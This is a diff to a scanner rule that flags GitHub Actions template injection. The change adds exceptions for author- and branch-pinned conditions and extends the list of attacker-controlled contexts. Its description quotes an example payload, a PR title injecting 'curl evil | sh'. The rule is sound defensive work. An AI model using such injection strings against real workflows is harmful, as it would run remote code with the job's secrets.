@@ -1,6 +1,6 @@
 import type { Rule } from '../../../src/model/rule.js';
 import { get, isMap, str, type DataMap } from '../../../src/parsers/data/tree.js';
-import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, runnerLabels, sourceLines, stepEvents, stepHosts, steps, untrustedRefs, usesOf, type EnvLookup, type Job, type Workflow } from './workflow.js';
+import { actionRepo, envLookup, stepFixed, expressionsIn, GHA_STANDARDS, HARDENING, runnerLabels, sourceLines, stepEvents, stepHosts, steps, untrustedRefs, usesOf, type EnvLookup, type Job, type Workflow } from './workflow.js';
 
 /**
  * Inputs of well-known actions that run their value as code (a shell command, a script, an
@@ -58,7 +58,7 @@ function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { s
       if (!m) continue;
       const value = m[3];
       let source: string | undefined;
-      if (value.startsWith('${{')) source = untrustedRefs(value.slice(3, -2), undefined, events)[0];
+      if (value.startsWith('${{')) source = untrustedRefs(value.slice(3, -2), undefined, events, stepFixed(wf, job, step))[0];
       else if (posix && (m[1] === '"' || m[1] === '')) source = env(`env.${/\w+/.exec(value.slice(1))![0]}`);
       if (source) out.set(`${id}.${m[2]}`.toLowerCase(), { source, step: index });
     }
@@ -82,7 +82,7 @@ const rule: Rule = {
     id: 'iac/gha-template-injection',
     title: 'Untrusted input expanded into a workflow script',
     description:
-      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
+      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. The previous title or body of an `edited` event (`github.event.changes.title.from`, `.body.from`) and the fork\'s repository fields (`head.repo.description`, `head.repo.homepage`) count as attacker-controlled. A `workflow_run` trigger whose `branches:` filter names only literal branches (`[main, release-2.x]`, no glob or `branches-ignore`) pins `github.event.workflow_run.head_branch` to one of those names, so it is not reported there. Nor is the text of an event object whose author a job or step `if:` pins (with `&&`, no `||` or negation): `github.event.pull_request.user.login == \'release-bot\'` (the pull request\'s fields and `github.head_ref`), or `github.event.comment.author_association == \'MEMBER\'` and `contains(fromJSON(\'["OWNER","MEMBER"]\'), …)` over OWNER, MEMBER and COLLABORATOR only; other objects of the same event (a comment on a pull request whose author is checked) still count. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
     severity: 'high',
     kinds: ['github-workflow', 'github-action'],
     messages: {
@@ -102,7 +102,7 @@ const rule: Rule = {
       'https://docs.zizmor.sh/audits/#template-injection',
     ],
     standards: { ...GHA_STANDARDS, cwe: ['CWE-78', 'CWE-94'] },
-    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], actionlint: ['expression'], octoscan: ['expression-injection'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'] },
+    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], actionlint: ['expression'], octoscan: ['expression-injection'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'], codeql: ['actions/code-injection/critical', 'actions/code-injection/medium'] },
     security: true,
     since: '0.1.0',
   },
@@ -131,7 +131,7 @@ const rule: Rule = {
         for (const t of targets) {
           if (!t.node || str(t.node) === undefined) continue;
           for (const ex of expressionsIn(text, t.node)) {
-            const bad = untrustedRefs(ex.body, env, events);
+            const bad = untrustedRefs(ex.body, env, events, stepFixed(wf, job, step));
             if (!bad.length) continue;
             const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
             const via = /^((env|matrix|steps)\.\S+) \(= (.+)\)$/.exec(bad[0]);
